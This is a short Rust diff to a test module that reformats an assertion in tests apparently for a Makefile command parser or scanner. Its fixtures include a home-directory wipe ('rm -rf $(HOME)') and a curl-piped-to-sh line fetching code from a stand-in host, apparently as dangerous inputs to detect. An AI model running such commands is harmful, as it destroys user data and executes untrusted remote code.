@@ -448,7 +448,10 @@ mod tests {
             )
             .is_empty()
         );
-        assert_eq!(make_commands("x:\n\trm -rf $(HOME)\n")[0].2, "rm -rf ${HOME}");
+        assert_eq!(
+            make_commands("x:\n\trm -rf $(HOME)\n")[0].2,
+            "rm -rf ${HOME}"
+        );
         let f = makefile(
             "X := $(shell curl -s https://e.example/x | sh)\nall:\n\techo\n",
             &FakeEngine,
